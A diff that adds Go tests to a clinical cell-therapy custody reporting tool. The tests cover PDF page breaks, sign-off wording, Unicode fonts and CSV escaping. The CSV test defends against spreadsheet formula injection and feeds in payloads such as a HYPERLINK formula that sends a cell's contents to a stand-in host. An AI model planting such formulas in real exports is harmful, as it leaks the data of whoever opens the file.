@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -131,8 +132,8 @@ func TestPDFText(t *testing.T) {
 	r.Produced.Verified, r.Produced.Problems = false, []string{"audit entry 5 was altered"}
 	text := extractPDFText(t, []byte(renderString(t, r, "pdf")))
 	for _, want := range []string{"Backward trace of patient MRN-2001", "aud (Ada Auditor, auditor)", strings.Repeat("ab", 32),
-		"FAILED", "audit entry 5 was altered", "FOR AUTOLOGOUS USE ONLY - patient MRN-2001", "1.20×10^9", "G12342600000202",
-		"created ->", "shipped", "bag cracked", "audit verify FAILED", "Sign-off", "Reviewed by (name):", "Signature:", "Date:", "page 1 of"} {
+		"FAILED", "audit entry 5 was altered", "FOR AUTOLOGOUS USE ONLY — patient MRN-2001", "1.20×10^9", "G12342600000202",
+		"created →", "shipped", "bag cracked", "audit verify:", "Sign-off", "Reviewed by (name):", "Signature:", "Date:", "page 1 of"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("PDF text lacks %q", want)
 		}
@@ -217,4 +218,153 @@ func extractPDFText(t *testing.T, pdf []byte) string {
 		t.Fatalf("pdftotext: %v\n%s", err, out)
 	}
 	return string(out)
+}
+
+// TestPDFDrawsRowsTallerThanAPage: an infusion with thirty long reactions
+// makes a row taller than an A4 page. It is drawn across pages, never
+// dropped, and so are the rows after it.
+func TestPDFDrawsRowsTallerThanAPage(t *testing.T) {
+	r := sample()
+	var reactions []string
+	for i := range 30 {
+		reactions = append(reactions, fmt.Sprintf("grade 2: fever and rigors %02d %s reaction-%02d-end", i, strings.Repeat("lorem ipsum dolor sit amet ", 6), i))
+	}
+	inf := &r.Events[3]
+	inf.Details["reactions"] = strings.Join(reactions, " | ")
+	at := inf.At
+	for i := range 3 {
+		r.Events = append(r.Events, Event{Kind: Custody, At: at.Add(time.Duration(i+1) * time.Hour), Lot: "LOT-RF-1",
+			Container: fmt.Sprintf("G1234260000030%d", i), To: "created", By: "liu", Reason: fmt.Sprintf("after-the-tall-row-%d", i)})
+	}
+	text := extractPDFText(t, []byte(renderString(t, r, "pdf")))
+	joined := strings.Join(strings.Fields(text), "")
+	for _, want := range []string{"infused", "witness=omar", "G12342600000300", "after-the-tall-row-0", "after-the-tall-row-2"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("PDF text lacks %q", want)
+		}
+	}
+	for i := range 30 {
+		if want := fmt.Sprintf("reaction-%02d-end", i); !strings.Contains(joined, want) {
+			t.Errorf("PDF text lacks %q: the tall row was cut", want)
+		}
+	}
+	if t.Failed() {
+		t.Logf("pdftotext output:\n%s", text)
+	}
+}
+
+// TestSignOffStatesTheVerificationScope: with only the report-scope check
+// run, the sentence an auditor signs says NOT A FULL VERIFY as the header
+// does, in every format with a sign-off, and never that audit verify passed.
+func TestSignOffStatesTheVerificationScope(t *testing.T) {
+	r := sample()
+	at := r.Produced.At.Add(-time.Hour)
+	r.Produced.Scope, r.Produced.RecordsVerified, r.Produced.ChainFrom, r.Produced.FullVerifyAt = ScopeReport, 17, 300, &at
+	for _, format := range []string{"pdf", "md", "html"} {
+		out := renderString(t, r, format)
+		if format == "pdf" {
+			out = extractPDFText(t, []byte(out))
+		}
+		out = strings.Join(strings.Fields(out), " ")
+		i := strings.Index(out, "I have reviewed this patient trace of MRN-2001")
+		if i < 0 {
+			t.Errorf("%s: no sign-off sentence:\n%s", format, out)
+			continue
+		}
+		signed := out[i:]
+		if !strings.Contains(signed, "audit verify: NOT A FULL VERIFY: the 17 records in this report verified") ||
+			!strings.Contains(signed, "chain verified from entry 300") || strings.Contains(strings.ToLower(signed), "passed") {
+			t.Errorf("%s: the sign-off claims other than the header: %s", format, signed)
+		}
+	}
+}
+
+// TestPDFFooterNamesTheCommand: the footer names the command that makes the
+// report — a handling report is not a trace.
+func TestPDFFooterNamesTheCommand(t *testing.T) {
+	r := sample()
+	if text := extractPDFText(t, []byte(renderString(t, r, "pdf"))); !strings.Contains(text, "celltrack trace patient MRN-2001") {
+		t.Errorf("trace footer: %s", text)
+	}
+	r.Kind, r.Subject, r.Data = "handling", "all infusions", &Table{Columns: []string{"a"}, Rows: [][]string{{"1"}}}
+	text := extractPDFText(t, []byte(renderString(t, r, "pdf")))
+	if !strings.Contains(text, "celltrack report handling (all infusions)") || strings.Contains(text, "celltrack trace handling") {
+		t.Errorf("handling footer: %s", text)
+	}
+}
+
+// TestPDFPrintsNamesInAnyEuropeanScript: the PDF embeds a Unicode font, so
+// Polish, Greek and Cyrillic names print as written (the core PDF fonts
+// turned them into '?'). A character the font still lacks (Chinese) is
+// printed as its code point, never a bare '?', with a note on the page that
+// names the field and sends the reader to the HTML or text report.
+func TestPDFPrintsNamesInAnyEuropeanScript(t *testing.T) {
+	r := sample()
+	r.Sections[0].Fields[1].Value = "Łucja Wąsowska"
+	r.Sections = append(r.Sections, Section{Title: "Recipients", Table: &Table{Columns: []string{"MRN", "Name"},
+		Rows: [][]string{{"MRN-3001", "Ελένη Παπαδοπούλου"}, {"MRN-3002", "Ольга Смирнова"}, {"MRN-3003", "陈美玲"}}}})
+	text := extractPDFText(t, []byte(renderString(t, r, "pdf")))
+	for _, want := range []string{"Łucja Wąsowska", "Ελένη Παπαδοπούλου", "Ольга Смирнова", "[U+9648][U+7F8E][U+73B2]",
+		"NOTE: Recipients, column Name, row MRN-3003: has characters this PDF's font cannot show"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("PDF text lacks %q", want)
+		}
+	}
+	if n := strings.Count(text, "?"); n != strings.Count(r.Question, "?") {
+		t.Errorf("PDF text has %d '?' beyond the question's: a character was lost", n)
+	}
+	if strings.Contains(text, "NOTE: Name") {
+		t.Errorf("a note for a field the font can draw")
+	}
+	if t.Failed() {
+		t.Logf("pdftotext output:\n%s", text)
+	}
+}
+
+// TestCmapRunes reads the embedded font's character map: Latin Extended,
+// Greek and Cyrillic are there, Chinese is not.
+func TestCmapRunes(t *testing.T) {
+	has := pdfGlyphs()
+	for _, r := range "AzŁąΕλОь×→—…" {
+		if !has(r) {
+			t.Errorf("DejaVu Sans lacks %q", r)
+		}
+	}
+	for _, r := range "陈美玲\U0001F600" {
+		if has(r) {
+			t.Errorf("DejaVu Sans has %q?", r)
+		}
+	}
+}
+
+// TestCSVCellsNeverRunAsFormulas: a reason typed as a formula is written as
+// text (a leading apostrophe), as is any cell starting with = + - @, a tab or
+// a carriage return; a negative number stays a number.
+func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
+		{"+1+1", "'+1+1"}, {"-1+1", "'-1+1"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\t=1", "'\t=1"}, {"\r=1", "'\r=1"},
+		{"-12.5", "-12.5"}, {"-3", "-3"}, {"12", "12"}, {"", ""}, {"bag cracked", "bag cracked"}, {"a=b", "a=b"},
+	} {
+		if got := csvCell(c.in); got != c.want {
+			t.Errorf("csvCell(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+	r := sample()
+	r.Events[2].Reason = `=HYPERLINK("http://x.example","click")`
+	rows, err := csv.NewReader(strings.NewReader(renderString(t, r, "csv"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := rows[3][13]; got != `'=HYPERLINK("http://x.example","click")` {
+		t.Errorf("reason cell = %q", got)
+	}
+	r.Data = &Table{Columns: []string{"thaw_to_start_min", "note"}, Rows: [][]string{{"-4.0", "=1+1"}}}
+	rows, err = csv.NewReader(strings.NewReader(renderString(t, r, "csv"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rows[1][0] != "-4.0" || rows[1][1] != "'=1+1" {
+		t.Errorf("data row = %q", rows[1])
+	}
 }
